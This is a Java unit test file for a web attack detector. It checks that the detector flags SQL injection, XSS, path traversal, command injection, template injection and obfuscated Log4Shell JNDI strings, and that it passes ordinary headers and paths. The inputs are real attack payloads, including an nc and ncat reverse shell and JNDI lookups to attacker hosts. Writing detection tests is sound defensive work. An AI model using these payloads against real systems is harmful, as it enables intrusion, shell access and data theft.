package org.nta.detect.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class AttackRulesTest {
    private static Set<String> kinds(String v, AttackRules.Context c) {
        return AttackRules.scan(v, c).stream().map(m -> m.kind().id()).collect(Collectors.toSet());
    }

    @ParameterizedTest
    @CsvSource(delimiterString = " => ", value = {
            "sqli => admin' OR '1'='1",
            "sqli => admin') AND 5510=5395 AND ('RwMh'='RwMh",
            "sqli => admin AND 9014=7150",
            "sqli => 1 UNION ALL SELECT NULL,CHAR(113,122,112,98,113)||CHAR(83,85),NULL-- xsWs",
            "sqli => 1/**/UnIoN/**/SeLeCt/**/1,2",
            "sqli => admin'--",
            "sqli => 1; DROP TABLE users",
            "sqli => 1 AND SLEEP(5)",
            "sqli => 1 ORDER BY 10-- BzCH",
            "sqli => admin,'\",,.)(.",
            "sqli => 1)).'\",,.).",
            "sqli => (SELECT (CASE WHEN (1962=5074) THEN 1962 ELSE (SELECT 5074 UNION SELECT 1875) END))",
            "xss => <script>alert(document.cookie)</script>",
            "xss => <svg/onload=alert(1)>",
            "xss => <img src=x onerror=alert(1)>",
            "xss => \"><iframe src=//evil>",
            "xss => javascript:alert(1)",
            "xss => admin'JOqqJw<'\">GOwycw",
            "path_traversal => ../../../etc/passwd",
            "path_traversal => ..\\..\\windows\\win.ini",
            "path_traversal => /etc/passwd",
            "path_traversal => php://filter/convert.base64-encode/resource=index.php",
            "path_traversal => file:///etc/shadow",
            "cmd_injection => 127.0.0.1;id",
            "cmd_injection => 127.0.0.1 && $(whoami) `id`",
            "cmd_injection => x | nc 10.0.0.1 4444",
            "cmd_injection => () { :; }; /bin/bash -c 'id'",
            "template_injection => {{7*7}}",
            "template_injection => ${7*7}",
            "template_injection => <%=7*7%>",
            "template_injection => {{config.__class__.__init__.__globals__}}",
            "jndi => ${jndi:ldap://10.13.37.200:1389/Exploit}",
            "jndi => ${${lower:j}ndi:${lower:r}mi://10.13.37.200:1099/a}",
            "jndi => ${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x.example/a}",
            "jndi => ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
    })
    void payloadsAreRecognised(String kind, String value) {
        assertThat(kinds(value, AttackRules.Context.VALUE)).contains(kind);
    }

    @Test
    void pathContextFindsTraversalAndSensitiveFiles() {
        assertThat(kinds("/uploads/../../../../etc/passwd", AttackRules.Context.PATH)).containsExactly("path_traversal");
        assertThat(kinds("/cgi-bin/../../etc/passwd", AttackRules.Context.PATH)).contains("path_traversal");
        assertThat(kinds("/etc/passwd", AttackRules.Context.PATH)).contains("path_traversal");
    }

    @Test
    void commandsWithoutInjectionAreNotInjection() {
        // web shell commands are the shell detector's business: no separator, no injection
        assertThat(kinds("cat /etc/passwd", AttackRules.Context.VALUE)).isEmpty();
        assertThat(kinds("ls -la /var/www/html", AttackRules.Context.VALUE)).isEmpty();
        assertThat(kinds("ncat fd77:6b0:1::66 443 -e /bin/sh", AttackRules.Context.VALUE)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1",
            "select a product from the list", "Tom & Jerry", "R&D; id card", "O'Brien", "it's #1 in sales",
            "rock and roll", "bob@example.com", "mailto:bob@example.com", "2024-01-01T10:00:00Z",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "gzip, deflate, br",
            "PHPSESSID=4f3c2b1a9e8d7c6b5a4f3c2b1a9e8d7c", "{\"name\":\"desk lamp\",\"price\":24.5}",
            "../images/logo.png", "5 * 3 = 15", "Hello, world! (How are you?)", "a=1&b=2",
            "https://portal.corp.lan/browse.php?page=2", "Q&A: what's new in 2.0?", "#ff0000",
            "max-age=0", "no-cache", "1; mode=block", "en-US,en;q=0.5", "$HOME is where", "100% cotton",
    })
    void ordinaryValuesAreNotPayloads(String v) {
        assertThat(AttackRules.scan(v, AttackRules.Context.VALUE)).isEmpty();
        assertThat(AttackRules.scan(v, AttackRules.Context.HEADER)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/index.php", "/about.php", "/.htaccess", "/.git/HEAD", "/cgi-bin/", "/_vti_bin",
            "/~admin", "/uploads/me.jpg", "/search", "/a+b", "/@", "/%", "/wp-admin/admin-ajax.php"})
    void ordinaryPathsAreNotPayloads(String p) {
        assertThat(AttackRules.scan(p, AttackRules.Context.PATH)).isEmpty();
    }

    @Test
    void sqlmapGrammarIsSpecific() {
        assertThat(AttackRules.sqlmapGrammar("admin') AND 8852=8852 AND ('MmVL'='MmVL")).isTrue();
        assertThat(AttackRules.sqlmapGrammar("admin AND 1655=5260-- zmeq")).isTrue();
        assertThat(AttackRules.sqlmapGrammar("1 UNION ALL SELECT NULL,CHAR(113,122,112,98,113)||x")).isTrue();
        assertThat(AttackRules.sqlmapGrammar("admin' OR '1'='1")).isFalse();
        assertThat(AttackRules.sqlmapGrammar("hello world")).isFalse();
    }

    @Test
    void jndiTargetIsParsedThroughObfuscation() {
        assertThat(AttackRules.jndiTarget("${jndi:ldap://10.13.37.200:1389/Exploit}")).containsExactly("ldap", "10.13.37.200", "1389");
        assertThat(AttackRules.jndiTarget("${${lower:j}ndi:${lower:r}mi://h.example/a}")).containsExactly("rmi", "h.example", "-1");
        assertThat(AttackRules.jndiTarget("${7*7}")).isNull();
    }

    @Test
    void eachMatchNamesItsRule() {
        List<AttackRules.Match> ms = AttackRules.scan("1 UNION SELECT 1--", AttackRules.Context.VALUE);
        assertThat(ms).extracting(AttackRules.Match::rule).contains("sqli.union");
        assertThat(ms.get(0).snippet()).contains("union select");
    }
}
